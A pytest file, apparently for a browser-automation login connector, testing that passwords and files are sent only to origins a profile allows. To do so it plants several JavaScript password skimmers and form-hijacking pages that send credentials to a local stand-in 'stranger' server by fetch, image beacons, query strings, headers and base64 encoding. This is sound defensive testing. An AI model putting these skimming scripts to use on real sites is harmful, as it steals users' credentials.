"""Account, password and files are handed to nobody but the origins that a profile names."""

from collections.abc import Iterator
from contextlib import nullcontext
from typing import Any, cast

import pytest
from playwright.sync_api import Browser, Page

from gongai.connector import browser as browsers
from gongai.connector.authoring.trial import origins_of, write_blocker_of
from gongai.connector.guard import Guard
from gongai.connector.journal import Journal
from gongai.connector.pages import home_origin
from gongai.connector.pages.login import LoginPage
from gongai.credentials.secret import Secret
from gongai.errors import PageChanged
from gongai.records.state import FilingState
from gongai.sites import Site
from gongai.sites.site_profile import Profile
from tests.connector.conftest import Install
from tests.connector.small_server import SmallServer, small_server

pytestmark = pytest.mark.browser

PASSWORD = "Planted-Pass-2026"
FORM = """<!doctype html><form method="post" action="{action}"><input name="loginName">
<input name="password" type="password"><button>登录</button></form>"""


def page_of(html: str) -> Any:
    return lambda exchange: exchange.give(html.encode(), kind="text/html; charset=utf-8")


def to(address: str) -> Any:
    return lambda exchange: exchange.give(status=302, more=(f"Location: {address}".encode(),))


@pytest.fixture
def home() -> Iterator[SmallServer]:
    with small_server() as server:
        yield server


@pytest.fixture
def stranger() -> Iterator[SmallServer]:
    """Another origin with the same form."""
    with small_server() as server:
        server.answers["/login"] = page_of(FORM.format(action="/take"))
        yield server


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    context = browsers.new_context(browser)
    yield context.new_page()
    context.close()


def profile_at(site: Site, home: SmallServer, **login: Any) -> Profile:
    data = site.profile.model_dump(mode="json") | {"base_url": home.url}
    origins = login.pop("origins", ())
    data["login"] |= {"address": "/login", "button": "登录", "captcha_image": "", **login}
    data["login"]["signs"]["success"] = {"outcome": "success", "address": "/take"}
    data["limits"]["action_s"] = 5
    return Profile.model_validate(data | {"origins": origins})


def log_in(page: Page, profile: Profile) -> None:
    made = LoginPage(page, profile)
    made.open()
    made.log_in("agent1", Secret(PASSWORD))


def nothing_given(*servers: SmallServer) -> bool:
    return not any(PASSWORD.encode() in one.body or one.method != "GET" for server in servers for one in server.seen)


def test_a_login_page_that_leads_to_another_origin_gets_nothing(
    page: Page, home: SmallServer, stranger: SmallServer, example_site: Site
) -> None:
    home.answers["/login"] = to(f"{stranger.url}/login")
    with pytest.raises(PageChanged, match=f"{stranger.url}，已停止，没有交出账号和密码.*origins"):
        log_in(page, profile_at(example_site, home))
    assert nothing_given(home, stranger)
    log_in(page, profile_at(example_site, home, origins=[stranger.url]))
    assert PASSWORD.encode() in stranger.at("/take").body


def test_a_frame_from_another_origin_gets_nothing(
    page: Page, home: SmallServer, stranger: SmallServer, example_site: Site
) -> None:
    home.answers["/login"] = page_of(f"<!doctype html><iframe src='{stranger.url}/login'></iframe>")
    with pytest.raises(PageChanged, match=stranger.url):
        log_in(page, profile_at(example_site, home, frame=["iframe"]))
    assert nothing_given(home, stranger)


def test_a_frame_that_the_page_has_written_itself_belongs_to_the_page(
    page: Page, home: SmallServer, example_site: Site
) -> None:
    inner = FORM.format(action=f"{home.url}/take").replace('"', "&quot;")
    home.answers["/login"] = page_of(f'<!doctype html><iframe srcdoc="{inner}"></iframe>')
    log_in(page, profile_at(example_site, home, frame=["iframe"]))
    assert PASSWORD.encode() in home.at("/take").body


@pytest.mark.parametrize(
    "form",
    [
        FORM.format(action="{stranger}/take"),
        FORM.format(action="/take").replace("<button", "<button formaction='{stranger}/take'"),
        "<base href='{stranger}/'>" + FORM.format(action="take"),
    ],
)
def test_a_form_that_goes_to_another_origin_gets_nothing(
    form: str, page: Page, home: SmallServer, stranger: SmallServer, example_site: Site
) -> None:
    home.answers["/login"] = page_of(form.replace("{stranger}", stranger.url))
    with pytest.raises(PageChanged, match=f"登录表单要发往.*{stranger.url}"):
        log_in(page, profile_at(example_site, home))
    assert page.locator("input[name=password]").input_value() == ""
    assert nothing_given(home, stranger)


def test_a_form_that_is_turned_elsewhere_while_it_is_filled_in_is_not_sent(
    page: Page, home: SmallServer, stranger: SmallServer, example_site: Site
) -> None:
    turn = (
        f"<script>document.querySelector('[name=password]').oninput = e => e.target.form.action = '{stranger.url}/take'"
    )
    home.answers["/login"] = page_of(FORM.format(action="/take") + turn + "</script>")
    with pytest.raises(PageChanged, match="登录表单要发往"):
        log_in(page, profile_at(example_site, home))
    assert nothing_given(home, stranger)


def test_a_page_that_moves_on_after_it_was_looked_at_gets_nothing(
    page: Page, home: SmallServer, stranger: SmallServer, example_site: Site
) -> None:
    home.answers["/login"] = page_of(FORM.format(action="/take"))
    page.goto(f"{home.url}/login")
    box = home_origin.box_at_home(page.locator("[name=password]"), {home.url}, timeout_s=5)
    page.goto(f"{stranger.url}/login")
    with pytest.raises(Exception, match=r"not attached|navigat|context|disposed"):
        box.fill(PASSWORD, timeout=500)
    assert page.locator("[name=password]").input_value() == ""


def test_files_are_handed_to_no_page_of_another_origin(page: Page, home: SmallServer, stranger: SmallServer) -> None:
    page.goto(f"{stranger.url}/login")
    with pytest.raises(PageChanged, match=f"{stranger.url}，已停止，没有交出材料文件"):
        home_origin.require(page, {home.url}, what="材料文件")


def test_a_hijacked_login_stops_for_a_person_and_wastes_no_password(install: Install, stranger: SmallServer) -> None:
    with small_server() as hijacked:
        hijacked.answers["/portal/login.html"] = to(f"{stranger.url}/login")
        world = install(url=hijacked.url)
        reference = world.add()
        world.work_off()
        assert world.state(reference) is FilingState.HELD
        (result,) = world.results()
        assert stranger.url in result["text"] and "没有交出账号和密码" in result["text"]
        assert world.app.accounts.get("yunxi", "agent1").wrong_passwords == 0
        assert nothing_given(hijacked, stranger)


BOXES = "<!doctype html><input name=loginName><input name=password type=password>"
TYPED = "document.querySelector('[name=password]').value"
WAYS = {
    "a form turned as it goes": FORM.format(action="/take")
    + "<script>document.forms[0].onsubmit = e => { e.target.action = '{stranger}/take' }</script>",
    "a form turned as it goes, by GET": FORM.format(action="/take")
    + "<script>document.forms[0].onsubmit = e => { e.target.method = 'get'; e.target.action = '{stranger}/take' }"
    "</script>",
    "fetch": f"""{BOXES}<button onclick="fetch('{{stranger}}/take', {{method: 'POST', mode: 'no-cors', body: {TYPED}}})
        .then(() => location.href = '/take')">登录</button>""",
    "an address": f"""{BOXES}<button onclick="location.href = '{{stranger}}/take?p=' + {TYPED}">登录</button>""",
    "another form": f"""{BOXES}<form id=f method=post action='{{stranger}}/take'><input type=hidden name=p></form>
        <button onclick="f.p.value = {TYPED}; f.submit()">登录</button>""",
    "an image, as it is typed": FORM.format(action="/take")
    + f"""<script>document.querySelector('[name=password]').oninput = () =>
        {{ new Image().src = '{{stranger}}/take?p=' + {TYPED} }}</script>""",
    "percent-encoded letters": f"""{BOXES}<button onclick="new Image().src = '{{stranger}}/take?p=' +
        [...{TYPED}].map(one => '%' + one.charCodeAt(0).toString(16)).join('');
        location.href = '/take'">登录</button>""",
    "a header": f"""{BOXES}<button onclick="fetch('{{stranger}}/take', {{headers: {{'x-p': {TYPED}}}}}).catch(() => 0)
        .then(() => location.href = '/take')">登录</button>""",
    "encoded, so that nobody knows it again": f"""{BOXES}<button onclick="fetch('{{stranger}}/take', {{method: 'POST',
        body: btoa({TYPED})}}).catch(() => 0).then(() => location.href = '/take')">登录</button>""",
}


def guarded(browser: Browser, profile: Profile, by: str) -> Any:
    """A context with what watches it while a login is made, as the worker and as the commands do it."""
    context = browsers.new_context(browser)
    if by == "guard":
        call = next(iter(profile.wizards.values())).submit.call
        guard = Guard(cast(Journal, None), call, origins=origins_of(profile), fresh=lambda: True, timeout_s=5)
        guard.watch(context)
        return context, nullcontext()
    blocker = write_blocker_of(profile)
    blocker.watch(context)
    return context, blocker.letting_in()


@pytest.mark.parametrize(
    ("way", "by"),
    [(way, "guard") for way in WAYS] + [(way, "blocker") for way in ("fetch", "an address")],
)
def test_what_a_script_sends_elsewhere_of_a_login_is_stopped_and_told(
    way: str, by: str, browser: Browser, home: SmallServer, stranger: SmallServer, example_site: Site
) -> None:
    home.answers["/login"] = page_of(WAYS[way].replace("{stranger}", stranger.url))
    profile = profile_at(example_site, home)
    context, letting_in = guarded(browser, profile, by)
    try:
        page = context.new_page()
        with letting_in, pytest.raises(PageChanged, match=f"{stranger.url}.*已拦下，登录已停止") as told:
            log_in(page, profile)
        assert PASSWORD not in str(told.value)
        page.wait_for_timeout(300)
    finally:
        context.close()
    assert stranger.seen == []


def test_at_home_and_at_named_origins_scripts_send_what_they_like(
    browser: Browser, home: SmallServer, stranger: SmallServer, example_site: Site
) -> None:
    script = WAYS["fetch"].replace("{stranger}", stranger.url)
    home.answers["/login"] = page_of(script)
    profile = profile_at(example_site, home, origins=[stranger.url])
    context, letting_in = guarded(browser, profile, "guard")
    with letting_in:
        log_in(context.new_page(), profile)
    context.close()
    assert stranger.at("/take").body == PASSWORD.encode()


def test_a_login_page_that_asks_strangers_for_pictures_works_as_before(
    browser: Browser, home: SmallServer, stranger: SmallServer, example_site: Site
) -> None:
    home.answers["/login"] = page_of(
        FORM.format(action="/take") + f"<script>fetch('{stranger.url}/count', {{method: 'POST'}}).catch(() => 0)"
        f"</script><img src='{stranger.url}/picture?t=1'>"
    )
    profile = profile_at(example_site, home)
    context, letting_in = guarded(browser, profile, "guard")
    with letting_in:
        log_in(context.new_page(), profile)
    context.close()
    assert PASSWORD.encode() in home.at("/take").body
    assert [(one.method, one.path) for one in stranger.seen] == [("GET", "/picture?t=1")]


def test_a_login_that_a_script_sends_elsewhere_stops_for_a_person_and_wastes_no_password(
    install: Install, stranger: SmallServer
) -> None:
    world = install(
        script="addEventListener('input', e => { if (e.target.type === 'password')"
        f" new Image().src = '{stranger.url}/take?p=' + encodeURIComponent(e.target.value) }}, true)"
    )
    reference = world.add()
    world.work_off()
    assert world.state(reference) is FilingState.HELD
    (result,) = world.results()
    assert stranger.url in result["text"] and "不计密码错误" in result["text"]
    assert world.app.accounts.get("yunxi", "agent1").wrong_passwords == 0
    assert stranger.seen == []
